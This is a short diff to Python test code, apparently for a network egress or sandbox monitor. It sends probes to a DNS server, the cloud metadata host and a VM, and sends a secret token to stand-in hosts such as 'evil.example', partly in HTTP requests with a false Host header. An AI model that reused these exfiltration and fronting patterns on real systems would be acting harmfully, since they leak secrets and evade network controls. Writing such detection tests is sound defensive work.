@@ -370,8 +370,7 @@ send('8.8.8.8', 53, b'question', socket.SOCK_DGRAM)
 send('ns.example', 53, b'question')
 send('metadata.google.internal', 80, b'GET / HTTP/1.0\\r\\n\\r\\n')
 send('vm', 9999, b'hello')
-# Once in clear, and else in good order: in the same protocol, and in another, where the
-# name is a false one; and that alone.
+# The second of three connections sends the token, or HTTP with a false Host, or both.
 GET = b'GET /%s HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'
 for host, data in (('evil.example', TOKEN), ('bad.example', GET % TOKEN),
                    ('front.example', GET % b'')):
